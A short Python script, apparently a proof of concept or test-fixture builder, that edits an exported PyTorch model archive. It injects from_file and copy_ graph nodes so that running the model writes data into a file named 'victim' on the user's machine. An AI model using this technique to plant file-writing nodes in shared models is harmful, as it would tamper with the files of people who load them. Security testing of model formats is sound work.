"""make_hostile.py: writes from_file.pt2 beside it: net.pt2 with nodes that open the file "victim" of the working directory
and write four numbers to it. Nothing but Python's own library is needed."""
import json
import os
import zipfile

FOLDER = os.path.dirname(os.path.abspath(__file__))
DOCUMENT = "net/models/model.json"


def node(target, output, **arguments):
    return {"target": f"torch.ops.aten.{target}", "name": output, "metadata": {},
            "inputs": [{"name": name, "arg": value, "kind": 2} for name, value in arguments.items()],
            "outputs": [{"as_tensor": {"name": output}}]}


with zipfile.ZipFile(f"{FOLDER}/net.pt2") as archive:
    records = {name: archive.read(name) for name in archive.namelist()}
document = json.loads(records[DOCUMENT])
graph = document["graph_module"]["graph"]
graph["nodes"] = [
    node("from_file.default", "opened", filename={"as_string": "victim"}, shared={"as_bool": True},
         size={"as_int": 4}, dtype={"as_scalar_type": 7}),
    node("copy_.default", "written", self={"as_tensor": {"name": "opened"}}, src={"as_tensor": {"name": "p_bn_weight"}}),
] + graph["nodes"]
for name in ("opened", "written"):
    graph["tensor_values"][name] = graph["tensor_values"]["p_bn_weight"]
records[DOCUMENT] = json.dumps(document).encode()
with zipfile.ZipFile(f"{FOLDER}/from_file.pt2", "w") as archive:
    for name, bytes_ in records.items():
        archive.writestr(zipfile.ZipInfo(name), bytes_)
